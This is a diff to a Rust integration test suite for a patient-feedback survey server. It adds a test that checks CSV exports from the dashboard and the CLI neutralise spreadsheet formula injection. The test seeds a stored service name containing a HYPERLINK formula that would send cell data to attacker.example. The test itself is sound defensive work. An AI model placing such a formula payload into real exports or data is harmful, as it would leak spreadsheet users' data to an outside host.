@@ -84,6 +84,7 @@ on_both!(
     bad_filters_get_a_clear_error,
     reports_show_the_cores_figures_on_seeded_data,
     the_fft_page_has_a_process_chart_of_monthly_positive,
+    every_export_defuses_spreadsheet_formulas,
     exports_parse_as_csv_and_match_the_stored_responses,
     comments_are_redacted_and_can_be_tagged,
     a_retention_run_deletes_old_responses_and_is_audited,
@@ -653,6 +654,42 @@ async fn bad_filters_get_a_clear_error(app: Router, state: Arc<AppState>) {
         .await;
     assert_eq!(p.status, StatusCode::BAD_REQUEST);
     assert!(p.body.contains("Month must be a real month"));
+}
+
+/// A stored service name that a spreadsheet would run (from before service ids were checked,
+/// or written by another tool) is defused by the dashboard's export and by `chorus export`
+/// alike: they share one CSV writer.
+async fn every_export_defuses_spreadsheet_formulas(app: Router, state: Arc<AppState>) {
+    let evil = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")";
+    sqlx::query("INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, received_at) VALUES ('demo', $1, 'fft', 1, 'en', 'formula-key-0001', 'h', '{\"fft\":\"good\"}', '{\"instrument\":\"fft\",\"version\":1}', '2026-11-02T10:00:00.000Z')")
+        .bind(evil)
+        .execute(state.store.pool())
+        .await
+        .unwrap();
+    let service_cells = |csv_text: &str| -> Vec<String> {
+        let mut r = csv::Reader::from_reader(csv_text.as_bytes());
+        let at = r
+            .headers()
+            .unwrap()
+            .iter()
+            .position(|h| h == "service")
+            .unwrap();
+        r.records().map(|x| x.unwrap()[at].to_string()).collect()
+    };
+    let mut c = signed_in(&app, &state, "csv@trust.nhs.uk", "demo", "analyst").await;
+    let p = c.get("/dashboard/exports/responses.csv?site=demo").await;
+    assert_eq!(p.status, StatusCode::OK);
+    let mut cli = Vec::new();
+    chorus_server::offline::export_csv(&state.store, Some("demo"), None, &mut cli)
+        .await
+        .unwrap();
+    for (what, text) in [
+        ("dashboard", p.body),
+        ("chorus export", String::from_utf8(cli).unwrap()),
+    ] {
+        let cells = service_cells(&text);
+        assert_eq!(cells, vec![format!("'{evil}")], "{what} export");
+    }
 }
 
 /// The FFT page's SPC section is the core's XmR chart of the published monthly % positive: the
